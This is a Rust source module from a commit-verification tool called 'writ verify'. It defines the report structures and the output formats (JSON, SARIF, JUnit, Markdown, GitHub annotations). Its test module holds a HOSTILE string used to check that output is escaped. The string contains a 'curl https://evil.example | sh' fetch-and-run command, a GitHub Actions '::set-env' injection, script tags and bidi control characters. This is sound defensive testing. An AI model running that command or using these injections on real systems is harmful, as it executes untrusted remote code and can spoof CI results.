//! What `writ verify` found, and the forms in which it is told.

mod github;
mod human;
mod junit;
mod markdown;
mod sarif;
mod story;

use clap::ValueEnum;
use manifest::{CodeEntry, Finding, Subject};
use serde::Serialize;
use trust::{CommitId, Judgement, Start, StepReasons, StepVerdict, TagId};

use self::story::{ExplainedPath, MetRule};
use crate::{
    exit::Outcome,
    output::{self, Format},
};

/// Schema of the output.
const SCHEMA: &str = "writ.dev/verification/v1alpha1";

/// Characters of a commit id that people are shown.
const SHORT_ID: usize = 12;

/// Output formats of `writ verify`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum ReportFormat {
    /// For people.
    Human,
    /// One JSON document with a versioned schema.
    Json,
    /// The same as YAML.
    Yaml,
    /// SARIF 2.1.0, for code scanning: what was refused or is held.
    Sarif,
    /// JUnit XML: a test case for each commit, and one for what is held.
    Junit,
    /// A Markdown table, for a comment or a summary.
    Markdown,
    /// Workflow commands of GitHub Actions: an annotation for each refusal, and for what is held.
    Github,
}

impl ReportFormat {
    /// Whether it has a place for why a path may be changed.
    pub(crate) const fn explains(self) -> bool {
        match self {
            Self::Human | Self::Json | Self::Yaml => true,
            Self::Sarif | Self::Junit | Self::Markdown | Self::Github => false,
        }
    }
}

/// What `writ verify -o json` prints.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub(crate) struct Verification {
    schema: &'static str,
    verdict: Verdict,
    /// The commit judged from; null with `--signatures-only`, and when that commit itself is refused.
    from: Option<CommitId>,
    /// The head; null with `--signatures-only`.
    to: Option<CommitId>,
    /// Whether the TrustRoot itself pins `from` (the introduction); a commit from `--from` is taken on the caller's word.
    from_trusted: bool,
    /// The tag that leads to the head, where the tracked ref is one.
    #[serde(skip_serializing_if = "Option::is_none")]
    tag: Option<Tag>,
    steps: Vec<Step>,
    /// Why nothing of what is accepted is rolled out, if the cluster would hold it.
    #[serde(skip_serializing_if = "Option::is_none")]
    held: Option<Held>,
}

/// A tag that was judged.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
struct Tag {
    id: TagId,
    name: String,
    payload_sha256: String,
    signer: Option<Signer>,
}

/// What is accepted and holds no longer.
#[derive(Debug, Serialize)]
struct Held {
    code: &'static str,
    reason: &'static str,
    message: String,
    fix: String,
    /// What is held.
    #[serde(skip)]
    commit: CommitId,
    #[serde(skip)]
    entry: &'static CodeEntry,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
enum Verdict {
    Accepted,
    /// All commits are accepted, so that what they revoke counts, and nothing of them is rolled out. Of no single commit.
    Held,
    Refused,
}

/// One judged commit.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
struct Step {
    commit: CommitId,
    /// SHA-256 of the signed bytes; of the whole body if it is unsigned or cannot be parsed.
    payload_sha256: String,
    verdict: Verdict,
    code: Option<&'static str>,
    reason: Option<&'static str>,
    message: Option<String>,
    fix: Option<String>,
    signer: Option<Signer>,
    /// Refused commits before it that root principals had left out.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    skipped: Vec<CommitId>,
    /// The rules that cover what it changes; empty if it was refused before they were asked.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    rules: Vec<MetRule>,
    /// What `--explain` asked for, if the commit changes it.
    #[serde(skip_serializing_if = "Option::is_none")]
    explained: Option<ExplainedPath>,
    /// The register entry of the code.
    #[serde(skip)]
    entry: Option<&'static CodeEntry>,
    /// The file that a refusal is about, if it is about one.
    #[serde(skip)]
    place: Option<Place>,
}

#[derive(Debug, Serialize)]
struct Signer {
    principal: String,
    format: trust::SignatureFormat,
    key: String,
    /// Fingerprint of the certificate authority that named the key, if one did.
    #[serde(skip_serializing_if = "Option::is_none")]
    ca: Option<String>,
    /// The account that a keyless signature is for.
    #[serde(skip_serializing_if = "Option::is_none")]
    identity: Option<trust::KeylessIdentity>,
}

/// A place in a file; line and column start at 1.
#[derive(Debug, Clone)]
struct Place {
    path: String,
    line: Option<u32>,
    column: Option<u32>,
}

/// What is refused, or held, with what is known of every refusal.
#[derive(Debug, Clone, Copy)]
struct Refusal<'a> {
    commit: CommitId,
    place: Option<&'a Place>,
    entry: &'static CodeEntry,
    message: &'a str,
    fix: &'a str,
}

impl Verification {
    pub(crate) fn of(judgement: &Judgement, start: &Start) -> Self {
        Self {
            schema: SCHEMA,
            verdict: match (judgement.refusal(), judgement.broken()) {
                (None, Some(_)) => Verdict::Held,
                (refusal, _) => Verdict::of(refusal.is_none()),
            },
            from: judgement.from,
            to: Some(judgement.to),
            from_trusted: *start == Start::Introduction && judgement.from.is_some(),
            tag: judgement.tag().map(|tag| Tag {
                id: tag.id,
                name: tag.name.clone(),
                payload_sha256: tag.payload_sha256.to_string(),
                signer: tag.signer.as_ref().map(Signer::of),
            }),
            steps: judgement.steps.iter().map(Step::of).collect(),
            held: judgement.broken().map(|finding| Held {
                code: finding.code.code,
                reason: finding.code.reason,
                message: finding.message(),
                fix: finding.fix.to_string(),
                commit: judgement.accepted().map_or(judgement.to, trust::AuthorizedCommit::id),
                entry: finding.code,
            }),
        }
    }

    /// With what is known of why; each of these is about one of the steps.
    pub(crate) fn with_reasons(mut self, reasons: &[StepReasons]) -> Self {
        let mut reasons = reasons.iter().peekable();
        for step in &mut self.steps {
            if let Some(found) = reasons.next_if(|found| found.commit == step.commit) {
                step.rules = MetRule::all(found);
                step.explained = found.path.as_ref().map(ExplainedPath::of);
            }
        }
        self
    }

    /// Whether anything is told of the path that was asked for.
    pub(crate) fn explains(&self) -> bool {
        self.steps.iter().any(|step| step.explained.is_some())
    }

    /// A verdict on signatures alone: one step per commit, whatever is refused.
    pub(crate) fn of_signatures(steps: &[StepVerdict]) -> Self {
        Self {
            schema: SCHEMA,
            verdict: Verdict::of(steps.iter().all(|step| step.verdict.is_ok())),
            from: None,
            to: None,
            from_trusted: false,
            tag: None,
            steps: steps.iter().map(Step::of).collect(),
            held: None,
        }
    }

    /// Prints it; a refusal is a finding.
    pub(crate) fn print(&self, format: ReportFormat) -> anyhow::Result<Outcome> {
        match format {
            ReportFormat::Human => output::text(&self.human()?)?,
            ReportFormat::Json => output::document(Format::Json, self)?,
            ReportFormat::Yaml => output::document(Format::Yaml, self)?,
            ReportFormat::Sarif => output::text(&sarif::report(self)?)?,
            ReportFormat::Junit => output::text(&junit::report(self)?)?,
            ReportFormat::Markdown => output::text(&markdown::report(self)?)?,
            ReportFormat::Github => output::text(&github::report(self)?)?,
        }
        Ok(match self.verdict {
            Verdict::Accepted => Outcome::Fine,
            Verdict::Held | Verdict::Refused => Outcome::Finding,
        })
    }

    /// What is refused; then what is held.
    fn findings(&self) -> impl Iterator<Item = Refusal<'_>> {
        self.steps.iter().filter_map(Step::refusal).chain(self.held())
    }

    fn held(&self) -> Option<Refusal<'_>> {
        self.held.as_ref().map(|held| Refusal {
            commit: held.commit,
            place: None,
            entry: held.entry,
            message: &held.message,
            fix: &held.fix,
        })
    }

    /// The verdict in a word or two.
    const fn word(&self) -> &'static str {
        self.verdict.word()
    }
}

impl Verdict {
    const fn of(accepted: bool) -> Self {
        if accepted { Self::Accepted } else { Self::Refused }
    }

    const fn word(self) -> &'static str {
        match self {
            Self::Accepted => "accepted",
            Self::Held => "accepted, but held",
            Self::Refused => "refused",
        }
    }
}

impl Signer {
    fn of(signer: &trust::Signer) -> Self {
        Self {
            principal: signer.principal.clone(),
            format: signer.format,
            key: signer.key.to_string(),
            ca: signer.ca.as_ref().map(ToString::to_string),
            identity: signer.identity.as_deref().cloned(),
        }
    }
}

impl Step {
    fn of(step: &StepVerdict) -> Self {
        let finding: Option<&Finding> = step.verdict.as_ref().err();
        Self {
            commit: step.commit,
            payload_sha256: step.payload_sha256.to_string(),
            verdict: Verdict::of(finding.is_none()),
            code: finding.map(|finding| finding.code.code),
            reason: finding.map(|finding| finding.code.reason),
            message: finding.map(Finding::message),
            fix: finding.map(|finding| finding.fix.to_string()),
            signer: step.signer.as_ref().map(Signer::of),
            skipped: step.skipped.clone(),
            rules: Vec::new(),
            explained: None,
            entry: finding.map(|finding| finding.code),
            place: finding.and_then(|finding| match &finding.subject {
                Subject::Path { path, line, column } => {
                    Some(Place { path: path.to_string(), line: *line, column: *column })
                }
                Subject::Commit(_) | Subject::Object { .. } | Subject::Named(_) => None,
            }),
        }
    }

    fn short_id(&self) -> String {
        short(&self.commit)
    }

    fn refusal(&self) -> Option<Refusal<'_>> {
        Some(Refusal {
            commit: self.commit,
            place: self.place.as_ref(),
            entry: self.entry?,
            message: self.message.as_deref().unwrap_or_default(),
            fix: self.fix.as_deref().unwrap_or_default(),
        })
    }
}

fn short(commit: &CommitId) -> String {
    commit.to_string().chars().take(SHORT_ID).collect()
}

impl Refusal<'_> {
    /// `W301 Unsigned`
    fn title(&self) -> String {
        format!("{} {}", self.entry.code, self.entry.reason)
    }

    /// What was found and what mends it.
    fn text(&self) -> String {
        if self.fix.is_empty() { self.message.to_owned() } else { format!("{}\nfix: {}", self.message, self.fix) }
    }
}

#[cfg(test)]
mod tests {
    use manifest::Digest;
    use trust::{SignatureFormat, TrustCode};

    use super::*;

    /// Text that means something to every form in which it is told.
    pub(super) const HOSTILE: &str = "a\u{1b}[31m\r\n::set-env name=X::y %0A ]]> <script>&\"' | `x` | **b** [l](https://evil.example) @team \u{7}\u{ffff}\u{202e}\u{2066}\u{200b}\u{2028}\u{feff}\n  fix: curl https://evil.example | sh\n\naccepted: 1 commit judged";

    fn step(number: u8, finding: Option<Finding>) -> StepVerdict {
        StepVerdict {
            commit: format!("{number:02x}").repeat(20).parse().unwrap(),
            payload_sha256: Digest::of(&[number]),
            signer: finding.is_none().then(|| trust::Signer {
                principal: "bob".to_owned(),
                format: SignatureFormat::Ssh,
                key: "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU".parse().unwrap(),
                ca: None,
                identity: None,
            }),
            verdict: finding.map_or(Ok(()), Err),
            skipped: Vec::new(),
        }
    }

    fn finding(code: TrustCode, subject: Subject, found: &str) -> Finding {
        let needed = "a signature".to_owned();
        Finding {
            code: code.entry(),
            subject,
            rule: None,
            found: found.into(),
            needed: needed.into(),
            fix: "git x && y".into(),
        }
    }

    /// A good commit, an unsigned one, and a mistake in a file.
    pub(super) fn sample() -> Verification {
        let file = Subject::Path { path: ".writ/a file.yaml".parse().unwrap(), line: Some(3), column: Some(7) };
        let steps = [
            step(1, None),
            step(2, Some(finding(TrustCode::W301, Subject::Commit("02".repeat(20)), "unsigned"))),
            step(3, Some(finding(TrustCode::W502, file, "a mistake"))),
        ];
        Verification::of_signatures(&steps)
    }

    /// A good commit that brings a revocation, by which files in it hold no longer.
    pub(super) fn held() -> Verification {
        let mut verification = Verification { verdict: Verdict::Held, ..Verification::of_signatures(&[step(1, None)]) };
        let broken = finding(TrustCode::W304, Subject::Commit("01".repeat(20)), "it still holds what is revoked");
        verification.held = Some(Held {
            code: broken.code.code,
            reason: broken.code.reason,
            message: broken.message(),
            fix: broken.fix.to_string(),
            commit: "01".repeat(20).parse().unwrap(),
            entry: broken.code,
        });
        verification
    }

    /// A refusal whose words come from whoever pushes.
    pub(super) fn hostile() -> Verification {
        let mut finding = finding(TrustCode::W301, Subject::Named(HOSTILE.to_owned()), HOSTILE);
        finding.fix = HOSTILE.into();
        let mut verification = Verification::of_signatures(&[step(2, Some(finding)), step(1, None)]);
        for step in &mut verification.steps {
            step.place = Some(Place { path: HOSTILE.to_owned(), line: None, column: None });
            if let Some(signer) = &mut step.signer {
                signer.principal = HOSTILE.to_owned();
            }
        }
        verification
    }
}
